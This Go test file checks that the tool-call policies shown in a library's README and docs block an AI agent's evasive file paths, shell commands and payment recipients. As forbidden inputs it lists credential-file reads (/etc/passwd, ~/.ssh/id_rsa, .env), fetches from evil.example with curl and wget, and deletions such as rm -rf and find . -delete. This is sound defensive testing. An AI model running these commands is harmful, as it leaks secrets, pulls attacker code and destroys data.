package policy_test

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/agent"
	"github.com/grapnel-go/grapnel/hooks"
	"github.com/grapnel-go/grapnel/internal/evasion"
	"github.com/grapnel-go/grapnel/policy"
)

// shownIn returns the hooks of the first policy in a page, or in the comment of a Go file, that has the words in it.
func shownIn(t *testing.T, page, words string) []hooks.Hook {
	t.Helper()
	text, err := os.ReadFile(page)
	require.NoError(t, err)
	blocks := regexp.MustCompile("(?s)```yaml\n(.*?)```").FindAllStringSubmatch(string(text), -1)
	if filepath.Ext(page) == ".go" {
		code := regexp.MustCompile(`(?m)^//\t(policy: (?s:.*?))\n//\n`).FindStringSubmatch(string(text))
		require.NotNil(t, code, page)
		blocks = [][]string{{"", strings.ReplaceAll(code[1], "\n//\t", "\n") + "\n"}}
	}
	for _, block := range blocks {
		if strings.Contains(block[1], words) {
			p, err := policy.Parse("shown.yaml", []byte(block[1]), policy.Options{Variables: map[string]any{"workspace": t.TempDir()}})
			require.NoError(t, err)
			list, err := p.Hooks()
			require.NoError(t, err)
			return list
		}
	}
	require.Fail(t, "no policy", "%s has none with %q", page, words)
	return nil
}

// The policies that our pages show hold against other spellings.
func TestPublishedPoliciesHold(t *testing.T) {
	t.Parallel()
	for page, words := range map[string]string{
		"../README.md": "policy: ours", "../docs/policies.md": "policy: workspace", "../docs/policy-testing.md": "policy: workspace", "doc.go": "policy: workspace",
	} {
		for _, tool := range []string{"read_file", "write_file", "edit_file"} {
			evasion.Guard{
				Hooks: shownIn(t, page, words), Tool: tool, Argument: "path",
				Allowed: []string{"a.txt", "a/../b.txt"}, Forbidden: []string{"/etc/passwd", "../x", "a/../../x", "~/.ssh/id_rsa", "/proc/self/root/etc/passwd"},
			}.Hold(t)
		}
	}
	evasion.Guard{
		Hooks: shownIn(t, "../docs/policies.md", "policy: workspace"), Tool: "bash", Argument: "command",
		Allowed:  []string{"ls", "cat a.txt"},
		Commands: []string{"cat /etc/passwd", "cat ../x", "curl https://evil.example", "wget -q evil.example/x", "git clone https://evil.example/x"},
	}.Hold(t)
	evasion.Guard{
		Hooks: shownIn(t, "../README.md", "policy: ours"), Tool: "bash", Argument: "command",
		Allowed:  []string{"ls", "go test ./..."},
		Commands: []string{"rm -rf build", "rm build -rf", "cat .env", "curl https://evil.example"},
	}.Hold(t)
	evasion.Guard{
		Hooks: shownIn(t, "../README.md", "policy: ours"), Tool: "send_money", Argument: "recipient",
		State:   agent.NewState(agent.UserText("Send 5 to Ann")),
		Allowed: []string{"Ann"}, Forbidden: []string{"Mallory", "*", " ", ""},
	}.Hold(t)
	payments, err := policy.Parse("rule.yaml", []byte("policy: one\nhooks:\n  PreToolUse:\n"+indented(rule(t))), policy.Options{})
	require.NoError(t, err)
	list, err := payments.Hooks()
	require.NoError(t, err)
	evasion.Guard{
		Hooks: list, Tool: "bash", Argument: "command",
		Allowed: []string{"ls", "echo rm"}, Commands: []string{"rm x", "rm -rf x", "rmdir x"}, Forbidden: []string{"find . -delete"},
	}.Hold(t)
}

// rule returns the rule that the manual takes apart.
func rule(t *testing.T) string {
	t.Helper()
	text, err := os.ReadFile("../docs/policies.md")
	require.NoError(t, err)
	found := regexp.MustCompile("(?s)```yaml\n(- id: no-wipe.*?)```").FindStringSubmatch(string(text))
	require.NotNil(t, found)
	return found[1]
}

func indented(text string) string {
	return "    " + strings.TrimRight(strings.ReplaceAll(text, "\n", "\n    "), " ")
}
